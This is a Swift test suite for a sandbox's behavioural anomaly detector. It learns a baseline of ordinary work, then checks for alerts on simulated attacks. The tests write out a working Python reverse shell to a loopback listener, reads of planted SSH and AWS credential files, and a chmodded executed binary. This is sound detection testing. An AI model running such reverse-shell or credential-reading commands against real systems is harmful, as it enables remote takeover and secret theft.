import Foundation
import Testing

/// The behavioural analyzer in the service, on the real kernel: it learns a
/// sandbox's ordinary work, stays quiet while that work goes on, and alerts,
/// with reasons, on a reverse shell, a credential read and a chmodded binary.
@Suite(.serialized, .enabled(if: isRoot, "needs root: BPF, cgroups and namespaces"))
struct BehaviourServiceTests {
    /// Learning for 4 s, then a window every second.
    static let configuration = """
        sandbox_configuration:
          behavioral_analysis: {observation_window: "4s", analysis_window: "1s", sensitivity: "high"}

        """

    /// Ordinary work, again and again: python, a shell pipeline, file writes in the workspace.
    static let work = """
        while true; do
          python3 -c 'import json, hashlib; d = {"k": list(range(50))}; open("out.json", "w").write(json.dumps(d)); hashlib.sha256(b"x" * 4096).hexdigest()'
          ls -la . > listing.txt; grep -c out listing.txt > /dev/null; cat /etc/passwd | wc -l > /dev/null
          sleep 0.2
        done
        """

    func snapshot(_ service: TestService, _ agent: String) throws -> [String: Any] {
        let r = try service.run(["integrity", "debug-behavior", "--agent-id", agent, "--detailed", "--format", "json"])
        #expect(r.code == 0, "\(r.stderr)")
        return (try? JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as? [String: Any]) ?? [:]
    }

    func windows(_ snapshot: [String: Any]) -> [[String: Any]] { snapshot["windows"] as? [[String: Any]] ?? [] }

    /// Waits (up to `seconds`) for a scored window whose reasons contain `text`.
    func alert(containing text: String, _ service: TestService, _ agent: String, seconds: Double = 8) throws -> [String: Any]? {
        let deadline = Date().addingTimeInterval(seconds)
        while Date() < deadline {
            if let window = windows(try snapshot(service, agent)).first(where: { window in
                window["alert"] as? Bool == true && (window["reasons"] as? [String] ?? []).contains { $0.contains(text) }
            }) {
                return window
            }
            usleep(250_000)
        }
        return nil
    }

    @Test func learnsOrdinaryWorkAndAlertsOnAttacksWithReasons() throws {
        let service = try TestService(configuration: Self.configuration)
        defer { service.tearDown() }
        try service.start()
        let profile = service.root + "/work.profile.json"
        let created = try service.run(["sandbox", "create", "--agent-id", "beh-1", "--profile", profile, "--", "/bin/sh", "-c", Self.work],
                                      in: service.root)
        #expect(created.code == 0, "\(created.stderr)")
        #expect(try snapshot(service, "beh-1")["phase"] as? String == "learning")

        // Learning ends after 4 s; then the same work for 4 windows raises nothing.
        var scored: [[String: Any]] = []
        for _ in 0..<60 where scored.count < 4 {
            usleep(250_000)
            scored = windows(try snapshot(service, "beh-1"))
        }
        let after = try snapshot(service, "beh-1")
        #expect(after["phase"] as? String == "scoring", "\(after)")
        #expect(scored.count >= 4, "no windows were scored: \(service.log().suffix(2000))")
        let quiet = scored.filter { $0["alert"] as? Bool == true }
        #expect(quiet.isEmpty, "ordinary work alerted: \(quiet.map { $0["reasons"] ?? "" })")
        #expect(FileManager.default.fileExists(atPath: profile), "the learned profile was not saved")

        // A reverse shell to loopback: a new destination, a shell started by python.
        let listener = try HostListener()
        let shell = "import socket, os; s = socket.create_connection(('127.0.0.1', \(listener.port))); "
            + "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; os.execv('/bin/sh', ['sh', '-i'])"
        _ = try service.run(["sandbox", "exec", "--agent-id", "beh-1", "--", "/usr/bin/python3", "-c", shell])
        let found = try alert(containing: "connected to 127.0.0.1:\(listener.port)", service, "beh-1")
        let recent = windows(try snapshot(service, "beh-1")).suffix(3)
        let reverse = try #require(found, "no alert for the reverse shell: \(recent)")
        #expect((reverse["risk"] as? Double ?? 0) >= 0.5)
        #expect(reverse["maestroLayer"] as? String == "L7 Agent Ecosystem")

        // A credential file it never read (the host's /etc/shadow is hidden from
        // sandboxes: the agent's own keys are what it could take).
        _ = try service.run(["sandbox", "exec", "--agent-id", "beh-1", "--", "/bin/sh", "-c", "mkdir -p .ssh && echo key > .ssh/id_ed25519"])
        _ = try service.run(["sandbox", "exec", "--agent-id", "beh-1", "--", "/bin/cat", ".ssh/id_ed25519"])
        #expect(try alert(containing: "read credential file /workspace/.ssh/id_ed25519", service, "beh-1") != nil,
                "no alert for the credential read")

        // A downloaded-and-chmodded binary.
        _ = try service.run(["sandbox", "exec", "--agent-id", "beh-1", "--", "/bin/sh", "-c",
                             "cat /bin/true > fetched-tool && chmod +x fetched-tool && ./fetched-tool"])
        #expect(try alert(containing: "fetched-tool, a file the sandbox made executable itself", service, "beh-1") != nil,
                "no alert for the chmodded binary")

        // The alerts are Detection Findings in the stream, with their MAESTRO layer.
        let tail = try service.run(["events", "tail", "--agent-id", "beh-1", "--lines", "5000"])
        let findings = tail.stdout.split(separator: "\n").filter { $0.contains("\"behaviour-anomaly\"") && $0.contains("\"class_uid\":2004") }
        #expect(findings.count >= 3, "behaviour alerts missing from events tail")
        #expect(findings.allSatisfy { $0.contains("\"maestro_layer\":\"L") })
        // The report charts the windows' scores and marks the alerting ones.
        let report = try service.run(["integrity", "report", "--agent-id", "beh-1", "--format", "json"])
        let parsed = try JSONSerialization.jsonObject(with: Data(report.stdout.utf8)) as? [String: Any]
        let scores = parsed?["anomalyScores"] as? [String: Any]
        #expect(scores?["available"] as? Bool == true, "\(report.stderr)")
        let points = scores?["points"] as? [[String: Any]] ?? []
        #expect(points.count >= 4 && points.contains { $0["alert"] as? Bool == true }, "\(points.suffix(3))")
        #expect(try service.run(["sandbox", "terminate", "--agent-id", "beh-1", "--force"]).code == 0)

        // The saved profile: the same agent starts scoring at once; another agent, or a damaged file, is refused.
        let again = try service.run(["sandbox", "create", "--agent-id", "beh-1", "--profile", profile, "--", "/bin/sh", "-c", Self.work],
                                    in: service.root)
        #expect(again.code == 0, "\(again.stderr)")
        #expect(try snapshot(service, "beh-1")["phase"] as? String == "scoring", "a known agent needs no new observation window")
        let foreign = try service.run(["sandbox", "create", "--agent-id", "beh-2", "--profile", profile, "--", "/bin/true"], in: service.root)
        #expect(foreign.code == 68 && foreign.stderr.contains("learned for agent 'beh-1', not 'beh-2'"), "\(foreign.stderr)")
        var damaged = try String(contentsOfFile: profile, encoding: .utf8)
        damaged = String(damaged.prefix(damaged.count / 2))
        try damaged.write(toFile: service.root + "/damaged.json", atomically: true, encoding: .utf8)
        let broken = try service.run(["sandbox", "create", "--agent-id", "beh-3", "--profile", service.root + "/damaged.json", "--", "/bin/true"])
        #expect(broken.code == 68 && broken.stderr.contains("damaged.json"), "\(broken.stderr)")
        #expect(try service.run(["sandbox", "list", "--format", "json"]).stdout.contains("beh-3") == false, "nothing half-created")
    }

    /// The live view: JSON lines when stdout is not a terminal, with rates, top syscalls and the anomaly series.
    @Test func monitorBehaviorStreamsJSONLines() throws {
        let service = try TestService(configuration: Self.configuration)
        defer { service.tearDown() }
        try service.start()
        #expect(try service.run(["sandbox", "create", "--agent-id", "beh-view", "--", "/bin/sh", "-c", Self.work], in: service.root).code == 0)
        let r = try service.run(["integrity", "monitor-behavior", "--agent-id", "beh-view", "--interval", "0.5", "--count", "3"])
        #expect(r.code == 0, "\(r.stderr)")
        let lines = r.stdout.split(separator: "\n").compactMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }
        #expect(lines.count == 3, "\(r.stdout)")
        #expect((lines.last?["top_syscalls"] as? [String: Any])?.isEmpty == false, "\(lines.last ?? [:])")
        #expect(((lines.last?["rates"] as? [String: Double])?["syscall"] ?? 0) > 0, "\(lines.last ?? [:])")
        let bad = try service.run(["integrity", "monitor-behavior", "--agent-id", "beh-view", "--sensitivity", "extreme"])
        #expect(bad.code == 64 && bad.stderr.contains("unknown sensitivity 'extreme'"), "\(bad.stderr)")
        let missing = try service.run(["integrity", "monitor-behavior", "--agent-id", "nobody", "--count", "1"])
        #expect(missing.code == 72, "\(missing.stderr)")
    }
}

/// `alcub3 run --profile`: the first run is the observation and saves the
/// profile; the next runs of the same program are scored against it.
@Suite(.serialized, .enabled(if: isRoot, "needs root: BPF, cgroups and namespaces"))
struct RunBehaviourTests {
    @Test func aRunLearnsTheNextIsScored() throws {
        let dir = NSTemporaryDirectory() + "alcub3-runprofile-" + UUID().uuidString
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try "sandbox_configuration:\n  behavioral_analysis: {analysis_window: \"500ms\"}\n"
            .write(toFile: dir + "/w.yaml", atomically: true, encoding: .utf8)
        let work = "for i in 1 2 3; do ls -la > /dev/null; python3 -c 'print(1)' > /dev/null; done"
        let learned = try alcub3(["run", "--policy-file", "w.yaml", "--profile", "p.json", "--", "/bin/sh", "-c", work], in: dir)
        #expect(learned.code == 0 && learned.stderr.contains("behaviour profile learned"), "\(learned.stderr)")
        let profile = try String(contentsOfFile: dir + "/p.json", encoding: .utf8)
        #expect(profile.contains("\"agent_id\":\"sh\""), "runs of one program share an agent id")

        let same = try alcub3(["run", "--policy-file", "w.yaml", "--profile", "p.json", "--", "/bin/sh", "-c", work + "; sleep 0.7"], in: dir)
        #expect(same.code == 0 && same.stderr.contains("0 alerting") && !same.stdout.contains("BEHAVIOUR"), "\(same.stdout) \(same.stderr)")

        let attack = "mkdir -p .aws && echo secret > .aws/credentials && cat .aws/credentials > /dev/null; sleep 0.7"
        let scored = try alcub3(["run", "--policy-file", "w.yaml", "--profile", "p.json", "--format", "json", "--", "/bin/sh", "-c", attack],
                                in: dir)
        #expect(scored.code == 0, "\(scored.stderr)")
        let alert = scored.jsonLines.first { ($0["finding_info"] as? [String: Any])?["uid"] as? String == "behaviour-anomaly" }
        let reasons = (alert?["unmapped"] as? [String: Any])?["reasons"] as? [String] ?? []
        #expect(reasons.contains { $0.contains("read credential file \(dir)/.aws/credentials") }, "\(reasons) \(scored.stdout.suffix(1500))")

        // Another agent's profile, a damaged file, an unwritable place: one line each, nothing run.
        let other = try alcub3(["run", "--agent-id", "other", "--profile", "p.json", "--", "/bin/true"], in: dir)
        #expect(other.code == 68 && other.stderr.contains("learned for agent 'sh', not 'other'"), "\(other.stderr)")
        try "{\"format\": \"alcub3-agent-profile\", \"version\": 1}".write(toFile: dir + "/cut.json", atomically: true, encoding: .utf8)
        let cut = try alcub3(["run", "--profile", "cut.json", "--", "/bin/true"], in: dir)
        #expect(cut.code == 68 && cut.stderr.contains("cut.json is corrupted: missing 'agent_id'"), "\(cut.stderr)")
        let nowhere = try alcub3(["run", "--profile", "/proc/none/p.json", "--", "/bin/true"], in: dir)
        #expect(nowhere.code == 64 && nowhere.stderr.contains("cannot write in /proc/none"), "\(nowhere.stderr)")
    }
}
